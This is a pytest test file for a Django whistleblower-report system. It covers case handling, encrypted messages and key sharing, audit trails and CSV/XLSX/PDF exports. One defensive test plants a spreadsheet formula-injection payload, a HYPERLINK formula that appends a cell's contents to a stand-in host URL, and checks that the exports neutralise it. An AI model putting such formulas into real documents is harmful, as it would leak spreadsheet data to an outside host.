import pytest
from django.core.exceptions import ValidationError
from django.test import Client

from cegah.core.models import AuditEntry
from cegah.wbs import keys, services
from cegah.wbs.models import Message, Report, Status


def test_handler_reads_asks_and_closes_while_reporter_answers(wbs, submit, handler_client) -> None:
    submitted = submit(
        description="Pungutan liar di Puskesmas untuk surat keterangan sehat tiap pasien."
    )
    report = submitted.report
    page = handler_client.get(
        f"/wbs/{wbs.org.slug}/r/{report.public_id}/", headers={"Accept-Encoding": "gzip"}
    )
    assert page.status_code == 200
    assert "Pungutan liar di Puskesmas" in page.content.decode()
    # A report's page is never compressed: it holds text anyone can write next to the case (BREACH).
    assert "Content-Encoding" not in page

    url = f"/wbs/{wbs.org.slug}/r/{report.public_id}"
    assert handler_client.post(f"{url}/assign/", {"assignee": wbs.handler.pk}).status_code == 302
    handler_client.post(f"{url}/message/", {"kind": "question", "body": "Kapan terakhir terjadi?"})
    handler_client.post(f"{url}/message/", {"kind": "note", "body": "Catatan internal rahasia"})

    reporter = Client()
    reporter.post("/lapor/pantau/", {"receipt": submitted.receipt})
    followup = reporter.get("/lapor/pantau/laporan/").content.decode()
    assert "Kapan terakhir terjadi?" in followup
    assert "Catatan internal rahasia" not in followup
    reporter.post("/lapor/pantau/laporan/", {"body": "Minggu lalu, hari Senin."})

    assert "Minggu lalu, hari Senin." in handler_client.get(f"{url}/").content.decode()
    for step in ("verification", "assessment", "follow_up"):
        assert handler_client.post(f"{url}/status/", {"status": step}).status_code == 302
    handler_client.post(f"{url}/status/", {"status": "closed", "outcome": "administrative"})
    report.refresh_from_db()
    assert report.status == Status.CLOSED and report.outcome == "administrative"
    assert report.answered_at is not None
    actions = set(AuditEntry.objects.filter(organisation=wbs.org).values_list("action", flat=True))
    assert {
        "wbs.report.assigned",
        "wbs.report.messaged",
        "wbs.report.noted",
        "wbs.report.status_changed",
    } <= actions
    assert "Ditutup" in reporter.get("/lapor/pantau/laporan/").content.decode()


def test_only_allowed_transitions(wbs, submit) -> None:
    report = submit().report
    with pytest.raises(ValidationError):
        services.transition_report(report, Status.CLOSED, wbs.handler, outcome="administrative")
    with pytest.raises(ValidationError):
        services.transition_report(report, "nonsense", wbs.handler)
    report = services.transition_report(report, Status.VERIFICATION, wbs.handler)
    assert report.status == Status.VERIFICATION


def test_closing_needs_an_outcome(wbs, submit) -> None:
    report = submit().report
    for step in (Status.VERIFICATION, Status.ASSESSMENT, Status.FOLLOW_UP):
        report = services.transition_report(report, step, wbs.handler)
    with pytest.raises(ValidationError):
        services.transition_report(report, Status.CLOSED, wbs.handler)


def test_viewer_cannot_open_cases(wbs, submit, client_for) -> None:
    report = submit().report
    assert (
        client_for(wbs.viewer).get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").status_code == 404
    )


def test_handler_without_key_in_session_sees_locked_content(wbs, submit, client_for) -> None:
    report = submit(description="Isi laporan yang harus terkunci tanpa kunci sesi.").report
    page = (
        client_for(wbs.handler).get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").content.decode()
    )
    assert "terkunci tanpa kunci" not in page
    assert "/unlock/" in page


def test_unlock_with_password_opens_content(wbs, submit, client_for) -> None:
    report = submit(description="Isi laporan yang terbuka setelah kata sandi.").report
    client = client_for(wbs.handler)
    assert (
        client.post(
            f"/wbs/{wbs.org.slug}/unlock/", {"password": "correct horse battery 9"}
        ).status_code
        == 302
    )
    assert (
        "terbuka setelah"
        in client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").content.decode()
    )


def test_new_handler_gets_access_from_colleague_login(wbs, submit) -> None:
    from tests.conftest import make_user
    from tests.wbs.conftest import PASSWORD, login_with_keys

    report = submit(description="Laporan lama yang harus terbaca oleh penangan baru.").report
    newcomer = make_user("newcomer", wbs.org, "handler")
    keys.unlock_user_key(newcomer, PASSWORD)  # the newcomer logged in once
    login_with_keys(wbs.handler)  # a colleague with access logs in and shares
    client = login_with_keys(newcomer)
    assert (
        "terbaca oleh penangan baru"
        in client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").content.decode()
    )


def test_recovery_key_restores_access_after_every_handler_left(wbs, submit) -> None:
    from cegah.accounts.models import Membership
    from tests.conftest import make_user
    from tests.wbs.conftest import PASSWORD, login_with_keys

    report = submit(description="Laporan yang bertahan walau semua penangan pergi.").report
    Membership.objects.filter(user=wbs.handler).delete()
    keys.revoke_stale_shares(wbs.org, None)
    successor = make_user("successor", wbs.org, "handler")
    keys.unlock_user_key(successor, PASSWORD)
    admin = login_with_keys(wbs.admin)
    bad = admin.post(
        f"/wbs/{wbs.org.slug}/keys/", {"action": "recover", "recovery_key": "CGH-R-AAAA"}
    )
    assert bad.status_code == 200
    admin.post(f"/wbs/{wbs.org.slug}/keys/", {"action": "recover", "recovery_key": wbs.recovery})
    client = login_with_keys(successor)
    assert (
        "walau semua penangan pergi"
        in client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").content.decode()
    )


def test_password_reset_by_admin_replaces_the_key_without_losing_reports(wbs, submit) -> None:
    from tests.conftest import make_user
    from tests.wbs.conftest import PASSWORD, login_with_keys

    report = submit(description="Laporan yang tetap terbaca setelah reset sandi.").report
    colleague = make_user("colleague", wbs.org, "supervisor")
    keys.unlock_user_key(colleague, PASSWORD)
    keys.grant_pending_shares(wbs.org, keys.org_private_from_recovery(wbs.org, wbs.recovery), None)

    # An admin resets the handler's password: the old key pair cannot be opened any more.
    wbs.handler.set_password("another long password 1")
    wbs.handler.save()
    Client().post(
        "/accounts/login/", {"username": "handler", "password": "another long password 1"}
    )
    assert AuditEntry.objects.filter(action="wbs.userkey.replaced").exists()

    # A colleague with access logs in and shares with the handler's new key pair.
    login_with_keys(colleague)
    client = login_with_keys(wbs.handler, "another long password 1")
    page = client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/").content.decode()
    assert "setelah reset sandi" in page


def test_leaving_member_reports_are_unassigned(wbs, submit) -> None:
    report = submit().report
    services.assign_report(report, wbs.handler, wbs.admin)
    assert services.reassign_departed(wbs.org, wbs.handler, wbs.admin) == 1
    report.refresh_from_db()
    assert report.assignee is None


def test_outsider_handler_cannot_be_assigned(wbs, submit) -> None:
    report = submit().report
    with pytest.raises(ValidationError):
        services.assign_report(report, wbs.outsider, wbs.handler)


def test_list_filters_and_exports(wbs, submit, handler_client) -> None:
    submit(category="suap", description="Suap perizinan bangunan di dinas PUPR kota.")
    submit(category="gratifikasi", description="Gratifikasi parsel menjelang lebaran di BPKAD.")
    listing = handler_client.get(f"/wbs/{wbs.org.slug}/?category=suap")
    assert listing.status_code == 200
    assert listing.content.decode().count("WBS-") == 1
    # Filtered with JavaScript, only the rows are swapped: the export links come with them.
    rows = handler_client.get(
        f"/wbs/{wbs.org.slug}/?category=suap", headers={"HX-Request": "true"}
    ).content.decode()
    assert rows.count("WBS-") == 1 and "export.csv?category=suap" in rows
    csv_body = b"".join(
        handler_client.get(f"/wbs/{wbs.org.slug}/export.csv").streaming_content
    ).decode()  # type: ignore[attr-defined]
    assert csv_body.count("WBS-") == 2 and "Suap perizinan" not in csv_body
    xlsx = handler_client.get(f"/wbs/{wbs.org.slug}/export.xlsx?content=1")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = " ".join(str(c.value) for row in sheet.iter_rows() for c in row)  # type: ignore[union-attr]
    assert "Suap perizinan" in values
    assert handler_client.get(f"/wbs/{wbs.org.slug}/export.exe").status_code == 404


def test_report_text_never_runs_in_an_export(wbs, submit, handler_client) -> None:
    import io

    from openpyxl import load_workbook

    # A reporter may write a description meant to run in the handler's spreadsheet.
    attack = '=HYPERLINK("https://contoh.invalid/?"&C2,"Bukti")'
    submit(category="suap", description=attack + " suap perizinan di dinas.")
    csv_body = b"".join(
        handler_client.get(f"/wbs/{wbs.org.slug}/export.csv?content=1").streaming_content
    ).decode()  # type: ignore[attr-defined]
    assert "'=HYPERLINK" in csv_body and ',"=HYPERLINK' not in csv_body
    xlsx = handler_client.get(f"/wbs/{wbs.org.slug}/export.xlsx?content=1")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER")]  # type: ignore[union-attr]
    assert cells and all(c.data_type == "s" for c in cells)


def test_case_pdf(wbs, submit, handler_client) -> None:
    report = submit().report
    response = handler_client.get(f"/wbs/{wbs.org.slug}/r/{report.public_id}/pdf/")
    assert response.status_code == 200 and response.content[:4] == b"%PDF"


def test_attachment_download_is_decrypted(wbs, submit, handler_client) -> None:
    from tests.wbs.test_intake import PNG

    report = submit(files=[services.IncomingFile("bukti asli.png", PNG)]).report
    attachment = report.attachments.get()
    response = handler_client.get(
        f"/wbs/{wbs.org.slug}/r/{report.public_id}/a/{attachment.public_id}/"
    )
    assert response.status_code == 200
    assert response.content == PNG
    assert response["Content-Type"] == "application/octet-stream"


def test_messages_are_ciphertext(wbs, submit) -> None:
    report = submit().report
    data_key = keys.report_data_key(report, keys.org_private_from_recovery(wbs.org, wbs.recovery))
    assert data_key is not None
    message = services.post_message(
        report, data_key, Message.Kind.HANDLER, "Terima kasih, sedang kami periksa.", wbs.handler
    )
    stored = Message.objects.get(pk=message.pk)
    assert b"Terima kasih" not in bytes(stored.body_ct)
    assert services.decrypt_message(stored, data_key) == "Terima kasih, sedang kami periksa."
    assert Report.objects.get(pk=report.pk).answered_at is not None


def test_removing_a_handler_returns_their_reports_to_the_queue_and_drops_their_share(
    wbs, submit
) -> None:
    from cegah.accounts.models import Membership
    from cegah.accounts.services import remove_member
    from cegah.wbs.models import KeyShare

    report = submit().report
    services.assign_report(report, wbs.handler, wbs.admin)
    assert KeyShare.objects.filter(user=wbs.handler).exists()
    remove_member(
        membership=Membership.objects.get(user=wbs.handler, role="handler"), actor=wbs.admin
    )
    report.refresh_from_db()
    assert report.assignee is None
    assert not KeyShare.objects.filter(user=wbs.handler).exists()
    assert AuditEntry.objects.filter(action="wbs.report.unassigned").exists()


def test_case_history_shows_labels_and_names_not_codes(wbs, submit, handler_client) -> None:
    import re

    from tests.wbs.test_referral import _kpk

    report = submit().report
    url = f"/wbs/{wbs.org.slug}/r/{report.public_id}"
    handler_client.post(f"{url}/assign/", {"assignee": wbs.handler.pk})
    handler_client.post(f"{url}/priority/", {"priority": "4", "labels": ""})
    handler_client.post(f"{url}/message/", {"kind": "question", "body": "Kapan?"})
    for step in ("verification", "assessment", "follow_up"):
        handler_client.post(f"{url}/status/", {"status": step})
    handler_client.post(f"{url}/status/", {"status": "closed", "outcome": "administrative"})
    page = handler_client.get(f"{url}/").content.decode()
    history = re.search(r"<h2>Riwayat</h2>.*?</ol>", page, re.DOTALL)
    assert history is not None, page[:200]
    text = history.group(0)
    assert "Status berubah dari “Diterima” menjadi “Verifikasi”" in text
    assert "Hasil: Sanksi atau perbaikan administratif" in text
    assert "Ditugaskan kepada handler KANARI7731" in text
    assert "Prioritas berubah dari “Normal” menjadi “Mendesak”" in text
    for code in ("received →", "→ verification", "administrative)", "message_", "follow_up"):
        assert code not in text, code

    # The sender's view of a referred report shows its reporter-visible steps the same way.
    kpk, _officer = _kpk(wbs)
    other = submit().report
    other_url = f"/wbs/{wbs.org.slug}/r/{other.public_id}"
    handler_client.post(f"{other_url}/message/", {"kind": "question", "body": "Di mana?"})
    handler_client.post(f"{other_url}/refer/", {"target": kpk.slug})
    referred = handler_client.get(f"/wbs/{wbs.org.slug}/referred/{other.public_id}/")
    body = referred.content.decode()
    assert "Pertanyaan kepada pelapor" in body and "message_question" not in body
    assert "Dilimpahkan dari Inspektorat Uji ke KPK Uji" in body


def test_audit_trail_names_reports_by_their_reference(
    wbs, submit, handler_client, client_for
) -> None:
    import re

    report = submit().report
    url = f"/wbs/{wbs.org.slug}/r/{report.public_id}"
    handler_client.post(f"{url}/assign/", {"assignee": wbs.handler.pk})
    handler_client.post(f"{url}/status/", {"status": "verification"})
    handler_client.get(f"{url}/pdf/")
    entries = AuditEntry.objects.filter(object_type="wbs.report")
    assert entries.count() >= 4
    assert all(e.details["reference"] == report.reference for e in entries)
    page = client_for(wbs.admin).get(f"/orgs/{wbs.org.slug}/audit/").content.decode()
    rows = [row for row in re.findall(r"<tr>.*?</tr>", page, re.DOTALL) if "wbs.report." in row]
    assert len(rows) == entries.count()
    assert all(report.reference in row for row in rows)


def test_case_pdf_history_names_who_wrote_each_message_like_the_page(
    wbs, submit, handler_client, monkeypatch
) -> None:
    from tests.wbs.test_referral import _capture_pdf_html

    wbs.handler.first_name, wbs.handler.last_name = "Budi", "Penangan"
    wbs.handler.save()
    report = submit().report
    url = f"/wbs/{wbs.org.slug}/r/{report.public_id}"
    handler_client.post(f"{url}/message/", {"kind": "question", "body": "Kapan kejadiannya?"})
    page = handler_client.get(f"{url}/").content.decode()
    assert "Pertanyaan kepada pelapor</strong> · Budi Penangan" in page
    pages = _capture_pdf_html(monkeypatch)
    handler_client.get(f"{url}/pdf/")
    assert "Pertanyaan kepada pelapor</strong> · Budi Penangan: Kapan kejadiannya?" in pages[0]
